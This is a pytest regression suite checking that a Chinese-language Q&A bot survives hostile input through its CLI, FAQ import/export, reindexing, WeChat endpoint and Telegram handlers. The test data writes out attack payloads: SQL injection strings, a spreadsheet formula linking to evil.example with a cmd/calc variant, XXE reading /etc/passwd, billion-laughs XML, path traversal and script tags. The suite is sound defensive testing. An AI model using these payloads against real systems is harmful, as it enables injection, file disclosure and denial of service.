"""Hostile input: the cases a security-minded tester tried that the bot already survives.

Every case here passed when it was written and is kept as a regression test. The promises
checked (DESIGN.md, README): no traceback, no HTTP 500, no Telegram parse error and no empty
or garbled reply; bad input gets a polite Chinese message and changes nothing; every passage
citation satisfies ``quote == cleaned_text[start:end]``; FAQ entries and the question log
survive everything.

Surfaces: ``Service.answer`` and ``bot.py ask --stdin --json`` (both in process), FAQ
import/export, reindex with a hostile articles directory, the WeChat endpoint (Starlette
TestClient on the real app) and the Telegram handlers (real Application, fake Bot API).
"""

from __future__ import annotations

import base64
import dataclasses
import json
import os
import shutil
import warnings
from pathlib import Path

import pytest
from telegram import Update

from app.server import build_app
from channels.wechat_crypto import MessageCrypto, msg_signature, plain_signature
from channels.wechat_xml import parse_message
from faq.io import FaqFileError
from faq.staff import FaqError, FaqStaff
from channels import replies as replies_mod
from qa.indexer import reindex
from qa.query import MAX_QUESTION_CHARS
from qa.store.maintenance import check
from tests import wechat_harness as h
from tests.conftest import SEED_ARTICLE
from tests.test_telegram_harness import BOT, live_bot
from tests.support.render import REPLIES, text as shown

with warnings.catch_warnings():  # Starlette 1.x prefers httpx2 for TestClient; httpx still works
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

KINDS = {"faq", "passage", "smalltalk", "none"}

#: Questions an attacker (or a clumsy phone keyboard) sends. Lone surrogates are NOT here:
#: they currently make Service.answer raise (see the test report).
HOSTILE_QUESTIONS = [
    "", " ", "\t\t", "\u3000\u3000", "😀😀😀", "👨‍👩‍👧‍👦", "\u200b\u200c\u200d\ufeff", "\u202e宛城区脱贫多少人",
    "\u2066宛城区\u2069脱贫多少人", "宛城区\u200b脱贫\u200d多少人", "\x00", "宛城区\x00脱贫多少人", "\x01\x02\x03\x1b[31m",
    "\x7f\x85\x9f", "\u2028宛城区\u2029脱贫", '"', '""""', "'", '" OR 1=1 --', "'; DROP TABLE faq_entries; --",
    "NEAR(宛城区 脱贫)", "脱贫 AND 人数 OR NOT 车间", "宛城* -脱贫 :^ +col:x", "title:脱贫", "{tokens}:扶贫",
    "\"扶贫\" \"车间\"", "<script>alert(1)</script>", "<b>宛城区</b>脱贫多少人", "&lt;&amp;&gt;", "]]>",
    "**粗体** _斜体_ [链接](http://x) `code`", "9" * 5000, "1e309", "NaN", "-0", "%s %d {0} {}", "\\", "\\n",
    "مرحبا بالعالم", "宛城区 Wancheng Район ولسوالی", "e\u0301\u0301\u0301" * 50, "ｗａｎｃｈｅｎｇ　２０２０年脱贫多少人？",
    "宛城區2020年脫貧多少人", "二〇二〇年宛城区脱贫多少人", "两千六百五十二", "𠀀𠀁𠀂", "\U000e0041\U000e0042",
    "\ufffd\ufffd", "宛城区脱贫多少人？" * 40, "脱" * 10000, "a" * 100_000,
]


def _cleaned_texts(store) -> dict[str, str]:
    return {d["doc_id"]: store.passages.document(d["doc_id"])["cleaned_text"] for d in store.passages.documents()}


def _assert_sane(answer, docs: dict[str, str]) -> None:
    """The answer contract for any input: a non-empty reply, a known kind, a confidence in
    0..1, serialisable JSON and passage citations that are verbatim spans of the document."""
    assert answer.kind in KINDS
    assert shown(answer).strip()
    assert 0.0 <= answer.confidence <= 1.0
    json.loads(json.dumps(REPLIES.to_json(answer), ensure_ascii=False))
    for citation in answer.citations:
        if citation.doc_id.startswith("faq:"):
            assert citation.quote.strip()
            continue
        assert citation.quote and docs[citation.doc_id][citation.start:citation.end] == citation.quote
        assert citation.quote in shown(answer)


def _counts(store) -> tuple[int, int, int]:
    conn = store.db.conn
    return tuple(conn.execute(sql).fetchone()[0] for sql in (
        "SELECT COUNT(*) FROM faq_entries", "SELECT COUNT(*) FROM faq_history", "SELECT COUNT(*) FROM questions"))


# --------------------------------------------------------------------------- service
def test_hostile_questions_get_sane_answers_and_never_touch_user_data(runtime):
    service, store = runtime.service, runtime.store
    docs = _cleaned_texts(store)
    faq_before = [r.public() for r in store.faq.all(status=None)]
    for question in HOSTILE_QUESTIONS:
        turn = runtime.conversation.ask("cli", "attacker", question, render=runtime.replies.text, rate_limit=False)
        _assert_sane(turn.answer, docs)
        assert turn.reply == runtime.replies.text(turn.answer)
    assert runtime.conversation.writer.flush(10)
    assert [r.public() for r in store.faq.all(status=None)] == faq_before
    assert store.db.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


@pytest.mark.parametrize("text", ["", " \t ", "\u3000", "\u200b\u200b", "\x00\x01", "\ufeff"])
def test_blank_input_gets_the_empty_message_and_is_not_logged(conversation, replies, text):
    turn = conversation.ask("cli", "u", text, render=replies.text)
    answer = turn.answer
    assert (answer.kind, answer.outcome, turn.reply) == ("none", "invalid", replies_mod.TEXT_EMPTY)
    assert turn.question_id is None


@pytest.mark.parametrize("text", ["😀😀", '"', "]]>", "مرحبا", "𠀀𠀁"])
def test_wordless_input_gets_the_not_text_message(service, text):
    answer = service.answer(text)
    assert (answer.kind, shown(answer)) == ("none", replies_mod.TEXT_NOT_TEXT)


@pytest.mark.parametrize("length, notice", [(MAX_QUESTION_CHARS - 1, False), (MAX_QUESTION_CHARS, False),
                                            (MAX_QUESTION_CHARS + 1, True)])
def test_question_cap_boundary(service, length, notice):
    text = ("扶贫车间哪天复工的" * 40)[:length]
    answer = service.answer(text)
    assert len(answer.question) == min(length, MAX_QUESTION_CHARS)
    assert (replies_mod.TEXT_TRUNCATED.format(limit=MAX_QUESTION_CHARS) in shown(answer)) is notice


@pytest.mark.parametrize("variant", ["宛城區2020年脫貧多少人", "二〇二〇年宛城区脱贫多少人", "宛城区２０２０年脱贫多少人？",
                                     "宛城区\u200b2020年\u200d脱贫多少人", "\ufeff宛城区2020年脱贫多少人"])
def test_script_and_width_variants_answer_like_the_plain_question(service, variant):
    assert "2652" in shown(service.answer(variant))


def test_ten_megabyte_question_is_cut_not_choked(service):
    answer = service.answer("宛城区2020年脱贫多少人？" + "扶" * (10 * 1024 * 1024))
    assert answer.latency_ms < 5000
    assert replies_mod.TEXT_TRUNCATED.format(limit=MAX_QUESTION_CHARS) in shown(answer)
    assert len(answer.question) == MAX_QUESTION_CHARS


def test_non_string_input_is_treated_as_empty(service):
    for value in (None, 123, b"bytes", ["list"]):
        assert shown(service.answer(value)) == replies_mod.TEXT_EMPTY


# ------------------------------------------------------------------------ CLI --stdin
def test_stdin_json_one_line_per_input_line_with_crlf_and_no_final_newline(bot, db_path):
    lines = ["宛城区2020年脱贫多少人？", "", "   ", "\x00", "😀", '" OR 1=1 --', "NEAR(a b)", "<script>x</script>",
             "\u202e扶贫车间哪天复工的", "宛城区\u200b脱贫多少人", "脱" * 199, "脱" * 200, "脱" * 201, "扶" * 100_000,
             "扶贫车间哪天复工的"]
    stdin = "\r\n".join(lines)  # Windows line ends, and no newline after the last line
    done = bot("ask", "--stdin", "--json", db=db_path, stdin=stdin)
    assert done.code == 0, done.err
    assert "Traceback" not in done.err and done.err.strip() == ""
    out = done.out.split("\n")
    assert out[-1] == "" and len(out) - 1 == len(lines)
    rows = [json.loads(line) for line in out[:-1]]
    assert [r["question"] for r in rows][:2] == ["宛城区2020年脱贫多少人？", ""]
    assert all(r["kind"] in KINDS and r["answer"].strip() for r in rows)
    assert "2652" in rows[0]["answer"] and "2020年3月19日" in rows[-1]["answer"]
    assert rows[1]["answer"] == rows[2]["answer"] == rows[3]["answer"] == replies_mod.TEXT_EMPTY
    assert [len(r["question"]) for r in rows[10:13]] == [199, 200, 200]
    from qa.store import Store

    store = Store(db_path)
    try:
        docs = _cleaned_texts(store)
    finally:
        store.close()
    for row in rows:
        for c in row["citations"]:
            if not c["doc_id"].startswith("faq:"):
                assert docs[c["doc_id"]][c["start"]:c["end"]] == c["quote"]


# --------------------------------------------------------------------------- FAQ files
_HEADER = "id,question,alternates,answer,source\n"
_ROW = "H1,低保怎么申请呢,,到乡镇便民服务中心申请,测试\n"


def _bad_files() -> dict[str, bytes]:
    return {
        "wrong_header.csv": b"wrong,header\n1,2\n",
        "empty.csv": b"",
        "bom_only.csv": b"\xef\xbb\xbf",
        "junk.csv": bytes(range(256)) * 8 + b"\xff\xfe\x00\x81",
        "utf16.csv": (_HEADER + _ROW).encode("utf-16"),
        "utf32.csv": (_HEADER + _ROW).encode("utf-32"),
        "double_bom.csv": b"\xef\xbb\xbf\xef\xbb\xbf" + (_HEADER + _ROW).encode(),
        "dup_ids.csv": (_HEADER + "D1,问题甲是什么,,答案,x\nD1,问题乙是什么,,答案,x\n").encode(),
        "extra_cols.csv": (_HEADER + "E1,问题,,答案,x,tag,more\n").encode(),
        "no_answer.csv": (_HEADER + "E2,问题是什么\n").encode(),
        "bad_id.csv": (_HEADER + "../../etc,问题,,答案,x\n").encode(),
        "long_question.csv": (_HEADER + "E3,问" + "题" * 300 + ",,答案,x\n").encode(),
        "long_answer.csv": (_HEADER + "E4,问题是什么,," + "答" * 5000 + ",x\n").encode(),
        "huge_field.csv": (_HEADER + "E5,问题,," + "答" * 200_000 + ",x\n").encode(),
        "unterminated_quote.csv": (_HEADER + 'E6,"问题没有结束,,答案,x\n').encode(),
        "text_renamed.xlsx": (_HEADER + _ROW).encode(),
        "empty.xlsx": b"",
        "random.xlsx": b"PK\x03\x04" + bytes(range(256)) * 4,
        # a valid GB18030 row then a valid GBK-incompatible UTF-8 row: refused, not garbled
        "mixed_refused.csv": (_HEADER + "M1,残疾人补贴怎么领取,,到民政所申请,测试\n").encode("gb18030")
        + "M2,医保报销比例是多少,,按照政策规定执行,测试\n".encode("utf-8"),
    }


def test_bad_faq_files_are_refused_in_chinese_and_change_nothing(runtime, tmp_path):
    staff = FaqStaff(runtime.store, runtime.segmenter)
    before = _counts(runtime.store)
    entries = [r.public() for r in runtime.store.faq.all(status=None)]
    for name, data in _bad_files().items():
        path = tmp_path / name
        path.write_bytes(data)
        with pytest.raises(FaqFileError) as info:
            staff.import_file(path, actor="test")
        assert name in str(info.value) and any("\u4e00" <= ch <= "\u9fff" for ch in str(info.value)), name
    assert _counts(runtime.store) == before
    assert [r.public() for r in runtime.store.faq.all(status=None)] == entries


def test_good_faq_encodings_and_awkward_csv_import(runtime, tmp_path):
    staff = FaqStaff(runtime.store, runtime.segmenter)
    files = {
        "gb.csv": (_HEADER + "G1,残疾人补贴怎么领取,,到民政所申请,测试\n").encode("gb18030"),
        "bom.csv": b"\xef\xbb\xbf" + (_HEADER + "G2,医保报销比例是多少,,按照政策规定执行,测试\n").encode(),
        "crlf.csv": (_HEADER + "G3,光伏收益怎么分配,,按村分配,测试\n").replace("\n", "\r\n").encode(),
        "quotes.csv": (_HEADER + 'G4,"多行\n问题是什么","甲|乙","答案第一行\n第二行 ""引号"" 结束",x\n').encode(),
        "spaces.csv": (" ID , Question ,alternates,answer,source\nG5,问题五是什么,,答案五,x\n").encode(),
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
        staff.import_file(tmp_path / name, actor="test")
    assert runtime.store.faq.get("G1").question == "残疾人补贴怎么领取"
    assert runtime.store.faq.get("G2").answer == "按照政策规定执行"
    assert runtime.store.faq.get("G3").answer == "按村分配"
    g4 = runtime.store.faq.get("G4")
    assert g4.answer == '答案第一行\n第二行 "引号" 结束' and g4.alternates == ["甲", "乙"]
    assert runtime.store.faq.get("G5").answer == "答案五"


def test_formula_looking_fields_stay_text_in_xlsx_and_round_trip(runtime, tmp_path):
    from openpyxl import load_workbook

    staff = FaqStaff(runtime.store, runtime.segmenter)
    question = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    record = staff.add(question=question, answer="=1+1", alternates="@SUM(1+1)|+cmd|-2+3",
                       source="=cmd|'/c calc'!A0", actor="test", force=True)
    xlsx = tmp_path / "out.xlsx"
    staff.export_file(xlsx)
    sheet = load_workbook(xlsx).active
    row = next(r for r in sheet.iter_rows() if r[0].value == record.id)
    assert all(cell.data_type == "s" for cell in row[:5])
    assert row[1].value == question
    for path in (xlsx, tmp_path / "out.csv"):
        staff.export_file(path)
        staff.import_file(path, actor="test")
        assert runtime.store.faq.get(record.id).public() == record.public()


def test_export_refuses_other_suffixes(runtime, tmp_path):
    staff = FaqStaff(runtime.store, runtime.segmenter)
    out = tmp_path / "exports"
    out.mkdir()
    for name in ("out.txt", "out", "index.db"):
        with pytest.raises(FaqFileError):
            staff.export_file(out / name)
    with pytest.raises(FaqFileError):  # the live database itself is never overwritten
        staff.export_file(runtime.store.path)
    assert not any(out.iterdir())
    assert runtime.store.db.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_staff_fields_are_cleaned_and_bounded(runtime):
    staff = FaqStaff(runtime.store, runtime.segmenter)
    record = staff.add(question="控制\x00字符\x1b\u200b测试问题是什么", answer="答\x07案\ufeff", actor="test", force=True)
    assert (record.question, record.answer) == ("控制字符测试问题是什么", "答案")
    before = _counts(runtime.store)
    for kwargs in ({"question": "问题是什么", "answer": "答" * 10_000}, {"question": "问" * 201, "answer": "答"},
                   {"question": "\u200b\x00", "answer": "答"}, {"question": "问题是什么", "answer": " \u200b "}):
        with pytest.raises(FaqError):
            staff.add(actor="test", force=True, **kwargs)
    assert _counts(runtime.store) == before
    for bogus in ("", "G", "G0", "G-1", "G99999999999999999999", "'; drop", "G\x01"):
        with pytest.raises(FaqError):
            staff.promote(bogus, actor="test", since="2000-01-01", to="F001")
    with pytest.raises(FaqError):
        staff.edit("NOPE", actor="test", answer="x")


def test_cli_faq_import_of_junk_says_so_without_traceback(bot, db_path, tmp_path):
    junk = tmp_path / "junk.csv"
    junk.write_bytes(os.urandom(2048) + b"\xff\xfe")
    done = bot("faq", "import", str(junk), db=db_path)
    assert done.code == 1 and "Traceback" not in done.err
    assert done.err.startswith("未完成：")


# --------------------------------------------------------------------------- reindex
def _hostile_articles(root: Path) -> None:
    shutil.copy(SEED_ARTICLE, root / "seed.txt")
    (root / "empty.txt").write_bytes(b"")
    (root / "binary.txt").write_bytes(bytes(range(256)) * 20)
    (root / "utf16.txt").write_bytes("\ufeff宛城区UTF16文章\n\n这是一个句子。\n".encode("utf-16"))
    (root / "gb.txt").write_bytes("---\ntitle: 宛城区医疗保障政策\n---\n宛城区医疗保障\n\n住院报销比例达到百分之九十。\n"
                                  .encode("gb18030"))
    (root / "front_only.md").write_text("---\ntitle: 只有前言\nsource: x\n---\n", encoding="utf-8")
    weird = root / "sub dir" / "中文目录"
    weird.mkdir(parents=True)
    (weird / "文件 名.txt").write_text("宛城区就业帮扶\n\n全区开发公益性岗位一千二百个，安置贫困劳动力就业。\n", encoding="utf-8")
    (root / "-leading-dash.txt").write_text("宛城区教育资助\n\n全区发放教育资助资金三千万元。\n", encoding="utf-8")
    (root / "markup.md").write_text(
        "# 标题<script>alert(1)</script>\n\n## 小节 **粗体**\n\n> 引用 [链接](javascript:alert(1)) ![i](x.png)\n\n"
        "- 列表项：宛城区种植艾草<b>五千亩</b>。\n\n<div>HTML &amp; 实体</div>\n", encoding="utf-8")
    (root / "crlf.txt").write_bytes("Windows 换行\r\n\r\n宛城区光伏扶贫电站收益分配到村。\r\n".encode())
    (root / "only_punct.txt").write_text("。。。\n\n！！！\n", encoding="utf-8")
    (root / "loop").symlink_to(".")
    (root / "dangling.txt").symlink_to("/nonexistent/x.txt")


def test_hostile_articles_directory_reindexes_and_keeps_user_data(runtime, tmp_path):
    articles = tmp_path / "articles"
    articles.mkdir()
    _hostile_articles(articles)
    runtime.conversation.ask("cli", "u1", "测试存活问题", render=runtime.replies.text)
    assert runtime.conversation.writer.flush(5)
    before = _counts(runtime.store)
    report = reindex(runtime.store, articles, runtime.segmenter, replace=True)
    skipped = {path for path, _ in report.skipped}
    assert {"empty.txt", "binary.txt", "utf16.txt", "front_only.md"} <= skipped
    assert report.documents >= 6
    assert _counts(runtime.store) == before
    docs = _cleaned_texts(runtime.store)
    assert {"seed", "gb", "sub dir/中文目录/文件 名", "-leading-dash", "markup", "crlf"} <= set(docs)
    for question, expected in [("宛城区种植艾草多少亩", "五千亩"), ("公益性岗位有多少个", "一千二百个"),
                               ("光伏扶贫电站收益", "分配到村"), ("扶贫车间哪天复工的", "2020年3月19日")]:
        answer = runtime.service.answer(question)
        _assert_sane(answer, docs)
        assert expected in shown(answer), question
    assert check(runtime.store.db, set(docs)).ok


def test_reindex_of_a_missing_or_empty_directory_keeps_the_live_index(runtime, tmp_path):
    before = runtime.store.passages.counts()
    user_data = _counts(runtime.store)
    empty = tmp_path / "empty"
    (empty / "sub").mkdir(parents=True)
    (empty / "notes.pdf").write_bytes(b"%PDF-1.4")
    (empty / ".hidden.txt").write_text("隐藏文件里的句子。", encoding="utf-8")
    for directory in (tmp_path / "nope", empty, runtime.store.path):
        with pytest.raises(FileNotFoundError):
            reindex(runtime.store, directory, runtime.segmenter, replace=True)
    assert _counts(runtime.store) == user_data
    assert runtime.store.passages.counts() == before
    assert "2652" in shown(runtime.service.answer("宛城区2020年脱贫多少人？"))


# --------------------------------------------------------------------------- WeChat
def _wechat_app(runtime, settings):
    configured = dataclasses.replace(settings, wechat_token=h.TOKEN, wechat_aes_key=h.AES_KEY, wechat_app_id=h.APP_ID,
                                     wechat_mode="compatible", wecom_token=None, wecom_aes_key=None, wecom_corp_id=None,
                                     telegram_webhook_url=None)
    return build_app(runtime, configured)


_BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
                   b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
                   b'<xml><FromUserName>oB</FromUserName><MsgType>text</MsgType><Content>&d;</Content></xml>')
_XXE = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><ToUserName>a</ToUserName>'
        b'<FromUserName>oX</FromUserName><MsgType>text</MsgType><Content>&e;</Content><MsgId>2</MsgId></xml>')
_PARAM_ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:1/x.dtd"> %p;]><xml/>'
_QUADRATIC = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"A" * 20000 + b'">]><xml><Content>'
              + b"&a;" * 10000 + b"</Content></xml>")[:65000]


def test_wechat_refuses_forgeries_bombs_and_junk_without_5xx(runtime, settings):
    now = h.now()
    good = h.text_xml("oGood", h.QUESTION, 7001).encode()
    with TestClient(_wechat_app(runtime, settings)) as client:
        def post(params, body, **kw):
            r = client.post("/wechat", params=params, content=body, **kw)
            assert r.status_code < 500
            return r

        assert "2652" in parse_message(post(h.signed(), good).text)["Content"]
        forbidden = [{**h.signed(), "signature": "0" * 40}, {k: v for k, v in h.signed().items() if k != "signature"},
                     {}, h.signed(timestamp=now - 400), h.signed(timestamp=now + 400)]
        for ts in ["abc", "-1", "1e9", f" {now}", f"{now}.0", "0x10", "９" * 10, "", "9" * 40]:
            forbidden.append({"signature": plain_signature(h.TOKEN, ts, "1"), "timestamp": ts, "nonce": "1"})
        for params in forbidden:
            assert post(params, good).status_code == 403, params
        for body in [_BILLION_LAUGHS, _XXE, _PARAM_ENTITY, _QUADRATIC, b"", b"hello", good[:50], b"<foo><a>1</a></foo>",
                     b'{"a": 1}', bytes(range(256)), "<xml/>".encode("utf-16"), b"<!DOCTYPE xml><xml></xml>",
                     b'<xml xmlns="urn:x"><FromUserName>o</FromUserName></xml>',
                     b"<xml><FromUserName>o</FromUserName><Content>&#0;</Content></xml>",
                     b"<xml><FromUserName>o</FromUserName><Content>&#xD800;</Content></xml>"]:
            assert post(h.signed(), body).status_code == 400, body[:40]
        assert post(h.signed(), b"<xml>" + b"a" * (64 * 1024) + b"</xml>").status_code == 413
        assert post(h.signed(), (b"<!--" + b"a" * 8000 + b"-->" for _ in range(25))).status_code == 413
        assert post(h.signed(), b"<xml>" + b"<a>" * 20000 + b"</a>" * 20000 + b"</xml>").status_code == 413
        assert client.put("/wechat", params=h.signed(), content=good).status_code == 405
        assert client.get("/wechat", params=h.signed()).status_code == 400  # no echostr
        assert client.get("/wechat", params={**h.signed(echostr="x"), "signature": "bad"}).status_code == 403


def test_wechat_odd_but_signed_messages_get_polite_replies(runtime, settings):
    with TestClient(_wechat_app(runtime, settings)) as client:
        def reply(xml, **kw):
            r = client.post("/wechat", params=h.signed(), content=xml.encode() if isinstance(xml, str) else xml, **kw)
            assert r.status_code == 200
            if r.text == "success":
                return None
            fields = parse_message(r.text)
            assert fields["Content"].strip() and len(fields["Content"].encode()) <= 2048
            return fields

        for ctype in ["application/json", "text/plain", "multipart/form-data; boundary=x", "image/png; charset=latin1"]:
            assert "2652" in reply(h.text_xml("oCt", h.QUESTION, 7100 + len(ctype)), headers={"content-type": ctype})["Content"]
        fields = reply(h.text_xml("oX]]><MsgType>evil</MsgType>", "宛城区]]>脱贫\x01\x1b多少人<xml>", 7201))
        assert fields["ToUserName"] == "oX]]><MsgType>evil</MsgType>" and fields["MsgType"] == "text"
        assert reply(h.text_xml("oEmpty", "", 7202))["Content"] == replies_mod.TEXT_EMPTY
        assert reply(h.text_xml("oEmoji", "😀👍🏽", 7203))["Content"] == replies_mod.TEXT_NOT_TEXT
        assert reply(h.text_xml("o" + "U" * 20000, "你好", 7204)) is not None
        assert reply(h.text_xml("   ", h.QUESTION, 7205)) is None  # no user: success
        for msg_type in ["unknown", "", "event", "miniprogrampage", "<b>"]:
            assert reply(h.text_xml("oMt", h.QUESTION, 7300 + len(msg_type), msg_type=msg_type)) is None
        for msg_type in ["image", "video", "location", "link", "file", "voice"]:
            assert reply(h.text_xml("oMt", h.QUESTION, 7400 + len(msg_type), msg_type=msg_type)) is not None
        assert reply(h.event_xml("oEv", "whatever<>")) is None
        assert reply("\ufeff<?xml version='1.0' encoding='utf-8'?>" + h.text_xml("oBom", h.QUESTION, 7500)) is not None
        entities = ("<xml><ToUserName>a</ToUserName><FromUserName>oEnt</FromUserName><MsgType>text</MsgType>"
                    "<Content>&#x5B9B;&#x57CE;&#x533A;2020年脱贫多少人&lt;</Content><MsgId>7501</MsgId></xml>")
        assert "2652" in reply(entities)["Content"]
        # the same MsgId from two users: two different answers, each to its own user
        alice = reply(h.text_xml("oAlice", "扶贫车间哪天复工的", 7777))
        bob = reply(h.text_xml("oBob", h.QUESTION, 7777))
        assert alice["ToUserName"] == "oAlice" and "2020年3月19日" in alice["Content"]
        assert bob["ToUserName"] == "oBob" and "2652" in bob["Content"]


def test_wechat_encrypted_garbage_is_refused(runtime, settings):
    crypto = h.wechat_crypto()
    with TestClient(_wechat_app(runtime, settings)) as client:
        for enc in ["", "!!!notbase64!!!", "AAAA", base64.b64encode(os.urandom(31)).decode(),
                    base64.b64encode(os.urandom(32)).decode(), base64.b64encode(os.urandom(48)).decode(),
                    "A" * 40000, "=" * 10, "中文"]:
            ts, nonce = str(h.now()), "9"
            params = {"timestamp": ts, "nonce": nonce, "msg_signature": msg_signature(h.TOKEN, ts, nonce, enc),
                      "signature": plain_signature(h.TOKEN, ts, nonce), "encrypt_type": "aes"}
            body = f"<xml><ToUserName>a</ToUserName><Encrypt><![CDATA[{enc}]]></Encrypt></xml>".encode()
            assert client.post("/wechat", params=params, content=body).status_code == 400, enc[:20]
        for inner in ["not xml", _BILLION_LAUGHS.decode()]:
            params, body = h.encrypted(crypto, inner)
            assert client.post("/wechat", params=params, content=body).status_code == 400
        params, body = h.encrypted(MessageCrypto(h.TOKEN, h.AES_KEY, "wxOTHERAPP00000000"), h.text_xml("o", h.QUESTION, 1))
        assert client.post("/wechat", params=params, content=body).status_code == 403
        params, body = h.encrypted(crypto, h.text_xml("oSig", h.QUESTION, 2))
        assert client.post("/wechat", params={**params, "msg_signature": "f" * 40}, content=body).status_code == 403
        params, body = h.encrypted(crypto, h.text_xml("oEnc", "宛城区2020年]]>脱贫\x01多少人", 3))
        r = client.post("/wechat", params=params, content=body)
        _, fields = h.open_reply(crypto, r.text)
        assert "2652" in fields["Content"]


# --------------------------------------------------------------------------- Telegram
@pytest.fixture(scope="module")
def telegram_bot(tmp_path_factory):
    yield from live_bot(tmp_path_factory, "hostile-tg")


GROUP = -1009876543210


def _telegram_cases(fake):
    mention = len(BOT) + 1
    return [
        ("huge private text", fake.private_text(101, "宛城区脱贫多少人" * 600), 1),
        ("100k private text", fake.private_text(102, "脱" * 100_000), 1),
        ("html-looking text", fake.private_text(103, "<b>宛城区</b> & <a href='x'>脱贫</a> 多少人 </pre>"), 1),
        ("bidi and zero-width", fake.private_text(104, "\u202e\u200b宛城区2020年脱贫多少人\u2066"), 1),
        ("control characters", fake.private_text(105, "\x00\x01宛城区\x1b[31m脱贫多少人"), 1),
        ("entity beyond the end", fake.group_text(GROUP, 106, "hi", entities=[{"type": "mention", "offset": 50,
                                                                              "length": 30}]), 0),
        ("negative entity offset", fake.group_text(GROUP, 107, f"@{BOT} 问题", entities=[
            {"type": "mention", "offset": -3, "length": 5}]), 0),
        ("entity inside a surrogate pair", fake.group_text(GROUP, 108, f"😀@{BOT} 宛城区脱贫多少人", entities=[
            {"type": "mention", "offset": 1, "length": mention}]), 0),
        ("mention after an emoji", fake.group_text(GROUP, 109, f"😀@{BOT} 宛城区2020年脱贫多少人", entities=[
            {"type": "mention", "offset": 2, "length": mention}]), 1),
        ("command entity longer than text", fake.group_text(GROUP, 110, "/ask 宛城区脱贫多少人", entities=[
            {"type": "bot_command", "offset": 0, "length": 9999}]), None),
        ("/ask with only a mention", fake.group_text(GROUP, 111, f"/ask @{BOT}", entities=[
            {"type": "bot_command", "offset": 0, "length": 4}, {"type": "mention", "offset": 5, "length": mention}]), 1),
        ("oversized faq button", fake.callback_query(112, "faq:" + "F" * 60), 1),
        ("sql-ish faq button", fake.callback_query(112, "faq:' OR 1=1 --"), 1),
        ("negative feedback id", fake.callback_query(112, "fb:-1:1"), 0),
        ("example index out of range", fake.callback_query(112, "ex:99999999999999999999"), 0),
        ("unknown command", fake.private_text(113, f"/rm_rf@{BOT}", entities=[
            {"type": "bot_command", "offset": 0, "length": 7 + len(BOT)}]), 1),
        ("staff command by a resident", fake.private_text(114, "/faq_add 问题 | 答案", entities=[
            {"type": "bot_command", "offset": 0, "length": 8}]), 1),
        ("admin command by a resident", fake.private_text(114, "/reindex", entities=[
            {"type": "bot_command", "offset": 0, "length": 8}]), 1),
    ]


def test_telegram_odd_updates_never_break_the_handlers(telegram_bot):
    fake, application, call, errors = telegram_bot
    for name, update, expected in _telegram_cases(fake):
        before = len([c for c in fake.calls("sendMessage")])
        pushed = fake.push_update(update)
        call(application.process_update(Update.de_json(pushed, application.bot)))
        sent = fake.calls("sendMessage")[before:]
        assert errors == [], name
        assert all(c.status == 200 for c in sent), name
        if expected is not None:
            assert len(sent) >= expected and (expected or not sent), name
    unknown = {"update_id": 987654321, "message_reaction": {"chat": {"id": 5, "type": "private"}, "message_id": 1,
                                                            "date": 0, "old_reaction": [], "new_reaction": []}}
    call(application.process_update(Update.de_json(unknown, application.bot)))
    assert errors == []
